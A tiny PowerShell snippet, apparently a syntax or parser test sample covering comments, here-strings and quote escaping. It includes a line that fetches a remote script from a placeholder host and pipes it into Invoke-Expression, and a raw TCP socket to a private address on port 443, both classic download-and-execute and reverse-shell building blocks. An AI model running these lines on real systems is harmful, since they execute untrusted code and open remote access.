# comment
<# block #>
$a = @"
here $(Get-Item x) "@
"@
$s = New-Object Net.Sockets.TcpClient("10.0.0.1", 443)
iwr https://x/y.ps1 | iex
$t = 'it''s'; $u = "`"q`""
